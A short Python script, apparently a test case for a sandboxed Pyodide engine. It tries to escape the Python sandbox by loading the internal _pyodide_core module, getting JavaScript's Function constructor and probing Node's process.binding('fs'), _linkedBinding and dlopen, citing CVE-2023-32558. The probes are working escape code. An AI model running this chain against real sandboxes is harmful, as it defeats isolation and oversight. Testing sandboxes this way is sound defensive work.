# Route (gets past the Python-level blocks): process.binding('fs'), Node's internal file-system
# binding, which once bypassed the permission model (CVE-2023-32558). The engine's shim answers only
# 'constants'; anything else must throw. Also tries process._linkedBinding and process.dlopen.
import _imp
import importlib.machinery

core = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("_pyodide_core"))
Function = core.to_js([]).constructor.constructor
for probe in (
    "return process._linkedBinding('fs')",
    "const m = { exports: {} }; process.dlopen(m, '/lib/x86_64-linux-gnu/libc.so.6'); return m",
):
    try:
        print(f"ESCAPED: {probe}: {Function(probe)()}")
    except Exception as refused:
        print(f"refused: {refused}")
binding = Function("return process.binding('fs')")()
print(f"ESCAPED: process.binding('fs') gave {binding}")
